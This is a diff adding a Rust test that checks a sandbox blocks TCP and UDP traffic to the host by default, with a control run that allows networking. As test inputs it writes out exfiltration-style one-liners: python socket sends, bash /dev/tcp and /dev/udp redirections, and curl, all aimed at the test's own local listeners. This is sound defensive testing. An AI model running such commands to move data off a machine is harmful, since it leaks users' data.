@@ -253,6 +253,78 @@ fn unix_sockets_reach_nothing() {
     }
 }
 
+/// The host's address on its default route (no packet is sent), if it has one.
+fn host_address() -> Option<std::net::IpAddr> {
+    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    s.connect("10.255.255.255:9").ok()?;
+    let ip = s.local_addr().ok()?.ip();
+    (!ip.is_unspecified() && !ip.is_loopback()).then_some(ip)
+}
+
+#[test]
+fn no_tcp_or_udp_reaches_the_host_by_default() {
+    use std::net::{TcpListener, UdpSocket};
+    for b in backends() {
+        let l = layout();
+        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
+        let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
+        tcp.set_nonblocking(true).unwrap();
+        udp.set_nonblocking(true).unwrap();
+        let (tp, up) = (
+            tcp.local_addr().unwrap().port(),
+            udp.local_addr().unwrap().port(),
+        );
+        let mut hosts = vec!["127.0.0.1".to_string()];
+        hosts.extend(host_address().map(|a| a.to_string()));
+        // a datagram "sent" inside the private network goes nowhere: only the host socket can
+        // tell, checked below
+        for h in &hosts {
+            let attacks = [
+                format!("python3 -c \"import socket; s=socket.create_connection(('{h}',{tp}),timeout=2); s.send(b'LEAK'); print('SENT')\""),
+                format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('{h}',{up}))\""),
+                format!("bash -c 'echo LEAK > /dev/udp/{h}/{up}; echo LEAK > /dev/tcp/{h}/{tp}' 2>&1"),
+                format!("curl -s --max-time 2 http://{h}:{tp}/ ; echo done"),
+            ];
+            for a in &attacks {
+                let o = sandboxed(&l, &b, a);
+                assert!(!o.text.contains("SENT"), "{b:?}: `{a}`: {}", o.text);
+            }
+        }
+        let py6 = format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('::1',{up}))\" 2>&1; true");
+        sandboxed(&l, &b, &py6);
+        std::thread::sleep(Duration::from_millis(200));
+        assert!(
+            tcp.accept().is_err(),
+            "{b:?}: the TCP listener got a connection"
+        );
+        let mut buf = [0u8; 16];
+        assert!(
+            udp.recv_from(&mut buf).is_err(),
+            "{b:?}: the UDP socket got a datagram"
+        );
+        // control: with the network allowed the same datagram arrives (the test can fail)
+        let policy = Policy {
+            force: Some(b.clone()),
+            network: true,
+            ..Policy::default()
+        };
+        let send = format!("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'LEAK', ('127.0.0.1',{up}))\"");
+        let (c, _) = sandboxed_command(&send, &l.work, &l.tmp, &policy).unwrap();
+        assert_eq!(run_cmd(c, Duration::from_secs(60)).code, Some(0));
+        let t0 = Instant::now();
+        let got = loop {
+            match udp.recv_from(&mut buf) {
+                Ok((n, _)) => break buf[..n].to_vec(),
+                Err(_) if t0.elapsed() < Duration::from_secs(5) => {
+                    std::thread::sleep(Duration::from_millis(20))
+                }
+                Err(e) => panic!("{b:?}: the control datagram never arrived: {e}"),
+            }
+        };
+        assert_eq!(got, b"LEAK");
+    }
+}
+
 #[test]
 fn no_new_namespaces_and_no_capabilities() {
     for b in backends() {
